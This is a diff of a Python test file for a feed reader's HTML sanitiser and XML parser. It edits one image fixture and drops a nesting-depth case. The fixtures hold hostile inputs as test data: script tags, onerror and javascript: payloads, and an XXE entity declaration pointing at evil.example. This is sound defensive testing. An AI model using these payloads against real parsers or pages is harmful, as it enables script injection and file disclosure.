@@ -82,7 +82,7 @@ def test_an_id_is_kept_as_published_however_like_an_address_it_looks() -> None:
     ("source", "kept"),
     [
         ("<p>a</p><script>alert(1)</script>", "<p>a</p>"),
-        ('<img src="/p.jpg" onerror="x()" width="1">', '<img src="https://news.example/p.jpg">'),
+        ('<img src="/p.jpg" onerror="x()" width="640">', '<img src="https://news.example/p.jpg">'),
         ('<img src="data:image/png;base64,x">text', "text"),
         ('<a href="javascript:x()">t</a>', "<a>t</a>"),
         ('<a href="mailto:a@b.example" target="_blank">t</a>', '<a href="mailto:a@b.example">t</a>'),
@@ -180,7 +180,6 @@ def test_one_entry_is_read(data: bytes) -> None:
             rss("", before='<!doctype rss [<!ENTITY % x SYSTEM "http://evil.example/">%x;]>').decode().encode("utf-16"),
             "It declares entities of its own, which can fill the memory or read files, so it is not read.",
         ),
-        (rss("<a>" * 70 + "</a>" * 70), "Its elements are nested more than 64 deep, which no feed is."),
         (rss("".join(f"<p{n}:x/>" for n in range(300))), "It uses more than 256 XML namespaces, which no feed does."),
     ],
 )
